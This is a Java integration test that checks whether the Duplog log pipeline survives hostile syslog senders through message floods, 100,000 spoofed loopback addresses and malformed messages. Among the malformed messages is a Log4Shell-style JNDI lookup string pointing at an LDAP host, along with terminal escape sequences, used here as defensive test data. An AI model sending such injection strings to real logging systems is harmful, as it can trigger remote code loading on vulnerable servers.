package io.duplog.benchmark.journey;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.duplog.benchmark.lab.Cleanup;
import io.duplog.benchmark.lab.IngestNode;
import io.duplog.benchmark.lab.Lab;
import io.duplog.benchmark.lab.Syslog;
import io.duplog.benchmark.lab.TestPlans;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.concurrent.CompletableFuture;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Tests that senders of hostile messages neither exhaust the memory of a complete Duplog nor make
 * other senders lose messages.
 */
class HostileSendersIT {
  private static final int MESSAGES_BEFORE_ATTACK = 500;
  private static final int KIBIBYTE = 1024;

  /** Memory of a bridge: a heap of 512 MiB, and the other memory of a JVM. */
  private static final long BRIDGE_KIBIBYTES = 768 * KIBIBYTE;

  /** Memory of a shim, with a heap of 48 MiB. */
  private static final long SHIM_KIBIBYTES = 200 * KIBIBYTE;

  private static final int REDIS_MEBIBYTES = 64;
  private static final int SENDERS = 100_000;

  /** Number of datagrams that rsyslog's receive buffer can certainly hold. */
  private static final int BURST = 100;

  /** The default of {@code coverage.senders}. */
  private static final int SENDER_LIMIT = 1000;

  /** Maximum number of names in a period: the first ones, and half as many regular ones. */
  private static final int MAX_NAMES = SENDER_LIMIT + SENDER_LIMIT / 2 + 10;

  /** Matches a sender's address between counts. */
  private static final Pattern SENDER_NAME = Pattern.compile(" \\d+\\.[0-9.]+ ");

  private static @TempDir Path root;
  private static Lab lab;
  private static Cleanup cleanup;

  /** Attack of a hostile sender on a node. */
  private interface Attack {
    void run(IngestNode node) throws IOException;
  }

  @BeforeAll
  static void start() throws Exception {
    Path directory = root.resolve("lab");
    lab = new Lab(TestPlans.pair(directory).withBridges(1));
    cleanup = new Cleanup(lab, List.of(directory));
    lab.start(line -> {});
    lab.store().redis().command("CONFIG", "SET", "maxmemory", REDIS_MEBIBYTES + "mb");
  }

  @AfterAll
  static void stop() {
    cleanup.close();
  }

  @AfterEach
  void requireProgramsRunInLimitedMemory() throws Exception {
    lab.requireAlive();
    for (Path log : lab.programLogs()) {
      assertThat(log).content(ISO_8859_1).doesNotContain("OutOfMemory", "closed its pipe");
    }
    assertThat(peakKibibytes(lab.bridges().get(0).server().pid())).isLessThan(BRIDGE_KIBIBYTES);
    for (IngestNode node : lab.nodes()) {
      List<ProcessHandle> shims = node.rsyslog().shims();
      assertThat(shims).as(node.stream()).hasSize(1);
      assertThat(peakKibibytes(shims.get(0).pid())).as("shim").isLessThan(SHIM_KIBIBYTES);
    }
    String peakBytes =
        lab.store()
            .redis()
            .command("INFO", "memory")
            .replaceAll("(?s).*used_memory_peak:(\\d+).*", "$1");
    assertThat(Long.parseLong(peakBytes)).isLessThan(2L * REDIS_MEBIBYTES * KIBIBYTE * KIBIBYTE);
  }

  @Test
  void attack_longIncompressibleMessages_othersLoseNothing() throws Exception {
    List<String> noiseMessages =
        new Random(1).longs(40 * 16).mapToObj(HostileSendersIT::noiseMessage).toList();

    assertOthersLoseNothing(node -> Syslog.sendCounted(node.rsyslog(), noiseMessages));
    await().until(() -> mergedLines("<11>noise").size() >= noiseMessages.size());
    assertThat(mergedLines("<11>noise")).hasSameSizeAs(noiseMessages);
  }

  @Test
  void attack_hundredThousandSenders_useMemoryOfThousand() throws Exception {
    assertOthersLoseNothing(HostileSendersIT::sendFromEverywhere);
    for (IngestNode node : lab.nodes()) {
      assertThat(node.rsyslog().droppedDatagrams()).as(node.stream()).isZero();
    }
    await()
        .pollInterval(Duration.ofSeconds(1))
        .until(() -> mergedLines("<14>everybody").stream().distinct().count() == SENDERS);

    List<Integer> nameCounts = new ArrayList<>();
    for (String period : lab.store().redis().command("KEYS", "duplog:period:*").lines().toList()) {
      String counts = lab.store().redis().command("HVALS", period);
      nameCounts.add((int) SENDER_NAME.matcher(counts).results().count());
    }
    assertThat(nameCounts)
        .allMatch(number -> number < MAX_NAMES)
        .as("a period with the maximum number of senders")
        .anyMatch(number -> number >= SENDER_LIMIT);
    assertThat(request(lab, "/metrics"))
        .contains("duplog_copies_received_total{")
        .doesNotContain("127.10.", "127.11.")
        .hasSizeLessThan(200 * KIBIBYTE);
    assertThat(request(lab, "/api/state"))
        .contains("\"streams\":")
        .hasSizeLessThan(1000 * KIBIBYTE);
  }

  @Test
  void attack_misleadingMessages_arriveOnceUnaltered() throws Exception {
    List<String> odd =
        List.of(
            "BEGIN TRANSACTION",
            "COMMIT TRANSACTION",
            "OK",
            "<>no priority",
            "<999999999999>too high a priority",
            "<13",
            "<13>Feb 31 99:99:99 host odd time",
            "<34>1 2026-99-99T99:99:99.999999999999Z host app - - - odd time",
            "<34>1 - - - - [broken@1 x=\"unfinished - odd structure",
            "<13>duplog-heartbeat 1",
            "<13>10.0.0.1 <13>another sender's",
            "<13>\u001b[2J\u009b31m a terminal's commands, in part escaped",
            "<13>${jndi:ldap://192.0.2.1/x} {} %n %s",
            "<13>invalid utf-8 \u00ff\u00fe\u00c3( \u0080",
            "<13>valid utf-8 \u00e2\u0082\u00ac",
            "<13>  two  spaces   and at the end  ",
            "<13>escaped by the sender #011 \\n \\\\ \"",
            "<13>tab\tbell\u0007end",
            "<13>long " + "x".repeat(63 * KIBIBYTE),
            "<13>one frame\n<13>not a second message\nCOMMIT TRANSACTION\nzero \u0000.");

    assertOthersLoseNothing(
        node -> {
          Syslog.sendCounted(node.rsyslog(), odd);
          Syslog.sendDatagram(node.rsyslog(), "127.0.0.1", "<13>by udp \u00ff");
        });
    await().until(() -> mergedLines("<13>one frame").size() == 1);
    await().until(() -> mergedLines("<13>by udp").contains("<13>by udp \u00ff"));
    assertThat(mergedLines(""))
        .containsOnlyOnceElementsOf(odd.stream().map(HostileSendersIT::escapeControls).toList())
        .as("lines that were never a separate message")
        .noneMatch(line -> line.startsWith("<13>not a second"));
  }

  @Test
  void log_messagesReceived_containsNoMessageText() throws Exception {
    for (IngestNode node : lab.nodes()) {
      Syslog.sendLines(node.rsyslog(), List.of("<13>marker-in-a-message"));
    }
    await().until(() -> !mergedLines("<13>marker-in-a-message").isEmpty());
    assertThat(bridgeLog(lab))
        .doesNotContain("marker-in-a-message")
        .hasSizeLessThan(64 * KIBIBYTE)
        .matches(Pattern.compile("(\\d{4}-\\d\\d-\\d\\dT[^\\n]*\\n)+"));
  }

  /**
   * Asserts that messages of other senders, which are delivered before the attack, all arrive
   * unaltered.
   */
  private static void assertOthersLoseNothing(Attack attack) throws Exception {
    int linesBefore = mergedLines("").size();
    try (HonestSenders others = new HonestSenders(lab)) {
      await().until(() -> others.delivered() > MESSAGES_BEFORE_ATTACK);
      CompletableFuture.allOf(
              lab.nodes().stream()
                  .map(node -> CompletableFuture.runAsync(() -> runAttack(attack, node)))
                  .toArray(CompletableFuture[]::new))
          .join();
      others.end();
      await().until(() -> others.lost() == 0 && lab.queued() == 0);
      List<String> lines = mergedLines("");
      assertThat(others.altered(lines.subList(linesBefore, lines.size()))).isZero();
    }
  }

  private static void runAttack(Attack attack, IngestNode node) {
    try {
      attack.run(node);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String noiseMessage(long seed) {
    StringBuilder message = new StringBuilder("<11>noise ");
    // Rsyslog would expand a control character to four letters.
    new Random(seed).ints(64 * KIBIBYTE - 10, ' ', '~').forEach(c -> message.append((char) c));
    return message.toString();
  }

  /**
   * Sends from 100,000 addresses of the machine's own loopback network. Each address is a separate
   * sender to rsyslog.
   */
  private static void sendFromEverywhere(IngestNode node) throws IOException {
    for (int i = 0; i < SENDERS; i++) {
      String from = "127.1%d.%d.%d".formatted(i >> 16, (i >> 8) & 255, i & 255);
      Syslog.sendDatagram(node.rsyslog(), from, "<14>everybody " + i);
      if (i % BURST == BURST - 1) { // The kernel drops no datagram if the buffer is emptied.
        await()
            .pollDelay(Duration.ZERO)
            .pollInterval(Duration.ofMillis(2))
            .until(() -> node.rsyslog().waitingDatagrams() == 0);
      }
    }
  }

  /** Escapes control characters once, like rsyslog itself. */
  private static String escapeControls(String message) {
    return Pattern.compile("[\u0000-\u001f]")
        .matcher(message)
        .replaceAll(control -> "#%03o".formatted((int) control.group().charAt(0)));
  }

  /**
   * Returns the complete lines of the merged stream with this beginning. A line ends with \n only.
   */
  private static List<String> mergedLines(String begin) throws IOException {
    List<String> lines = new ArrayList<>();
    for (Path output : lab.outputs()) {
      String text = Files.exists(output) ? Files.readString(output, ISO_8859_1) : "";
      List<String> all = List.of(text.split("\n", -1));
      all.subList(0, all.size() - 1).stream().filter(l -> l.startsWith(begin)).forEach(lines::add);
    }
    return lines;
  }

  private static String bridgeLog(Lab targetLab) throws IOException {
    return Files.readString(targetLab.bridges().get(0).server().log());
  }

  /** Returns the maximum resident memory of a process. */
  private static long peakKibibytes(long pid) throws IOException {
    return Files.readAllLines(Path.of("/proc/%d/status".formatted(pid))).stream()
        .filter(line -> line.startsWith("VmHWM:"))
        .mapToLong(line -> Long.parseLong(line.replaceAll("\\D", "")))
        .findFirst()
        .orElseThrow();
  }

  /** Requests a path of the first bridge's status page. */
  static String request(Lab targetLab, String path) throws Exception {
    Matcher url = Pattern.compile("health at (http://\\S+)").matcher(bridgeLog(targetLab));
    assertThat(url.find()).isTrue();
    return HttpClient.newHttpClient()
        .send(
            HttpRequest.newBuilder(URI.create(url.group(1) + path)).build(),
            HttpResponse.BodyHandlers.ofString())
        .body();
  }
}
